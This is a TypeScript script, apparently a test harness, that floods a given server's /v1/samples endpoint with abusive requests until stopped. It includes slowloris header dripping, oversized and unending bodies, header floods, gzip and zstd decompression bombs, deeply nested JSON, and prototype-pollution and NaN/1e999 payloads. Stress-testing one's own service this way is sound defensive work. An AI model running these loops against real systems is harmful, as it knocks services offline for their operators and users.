/**
 * Requests that nobody who means well sends, over and over until the process is ended: a program of its own, so that what it costs to make
 * them is not measured as what they cost others. Argument: the base URL. Each kind has one loop; `count` of each goes to the parent.
 */
import { once } from 'node:events'
import { connect, type Socket } from 'node:net'
import { setTimeout as delay } from 'node:timers/promises'
import { gzipSync, zstdCompressSync } from 'node:zlib'

const mebibyte = 1_048_576
const pauseMs = 50
const slowSockets = 50
const slowBytePauseMs = 1_000
const attemptMsMax = 20_000
const [url = ''] = process.argv.slice(2)
const { hostname, port, host } = new URL(url)

const bomb = Buffer.alloc(256 * mebibyte, ' ')
const bombs = { gzip: gzipSync(bomb), zstd: zstdCompressSync(bomb) }
const oddSamples =
  '{"samples":[{"serverId":"h","metricId":"m","value":NaN,"ts":1}]}|{"samples":[{"serverId":"h","metricId":"m","value":1e999,"ts":1}]}|' +
  '{"__proto__":{"samples":[]},"constructor":{"prototype":{"polluted":1}}}'

const head = (headers: string): string => `POST /v1/samples HTTP/1.1\r\nHost: ${host}\r\n${headers}\r\n`
const json = 'Content-Type: application/json\r\n'

const kinds: Readonly<Record<string, () => Promise<void>>> = {
  'slow header': () => Promise.all(Array.from({ length: slowSockets }, dripHeader)).then(() => {}),
  'body of 1 GB': () => pour(head(`${json}Content-Length: 1073741824\r\n`), Buffer.alloc(mebibyte, ' '), 1_024),
  'body without an end': () =>
    pour(head(`${json}Transfer-Encoding: chunked\r\n`), Buffer.from(`10000\r\n${' '.repeat(65_536)}\r\n`), 16_384),
  'a million headers': () => pour(head(json).slice(0, -2), Buffer.from('X-A: b\r\n'.repeat(1_000)), 1_000),
  'gzip bomb': () => post(bombs.gzip, 'gzip'),
  'zstd bomb': () => post(bombs.zstd, 'zstd'),
  'deep JSON': () => post(Buffer.from(`{"samples":${'['.repeat(900_000)}`), 'identity'),
  'odd values': async () => {
    for (const body of oddSamples.split('|')) await post(Buffer.from(body), 'identity')
  },
}

process.on('disconnect', () => process.exit())
await Promise.all(Object.entries(kinds).map(([kind, attack]) => attackForEver(kind, attack)))

async function attackForEver(kind: string, attack: () => Promise<void>): Promise<void> {
  for (;;) {
    // Whatever it ends with is the answer.
    await attack().catch(() => {})
    process.send?.({ kind })
    await delay(pauseMs)
  }
}

async function post(body: Buffer, encoding: string): Promise<void> {
  const headers = { 'content-type': 'application/json', 'content-encoding': encoding }
  const signal = AbortSignal.timeout(attemptMsMax)
  const answer = await fetch(`${url}/v1/samples`, { method: 'POST', headers, body: new Uint8Array(body), signal })
  await answer.arrayBuffer()
}

/** As fast as it is read, until it is refused, or so often. */
async function pour(start: string, piece: Buffer, times: number): Promise<void> {
  const socket = await open()
  const closed = once(socket, 'close')
  socket.write(start)
  for (let sent = 0; sent < times && !socket.destroyed; sent++) {
    if (!socket.write(piece)) await Promise.race([once(socket, 'drain'), closed])
  }
  socket.destroy()
}

async function dripHeader(): Promise<void> {
  const socket = await open()
  const closed = once(socket, 'close')
  socket.write(`POST /v1/samples HTTP/1.1\r\nHost: ${host}\r\nX-Slow: `)
  while (!socket.destroyed) {
    socket.write('x')
    await Promise.race([delay(slowBytePauseMs), closed])
  }
}

async function open(): Promise<Socket> {
  const socket = connect(Number(port), hostname)
  socket.on('error', () => socket.destroy()).on('data', () => socket.destroy())
  socket.setTimeout(attemptMsMax, () => socket.destroy())
  await once(socket, 'connect')
  return socket
}
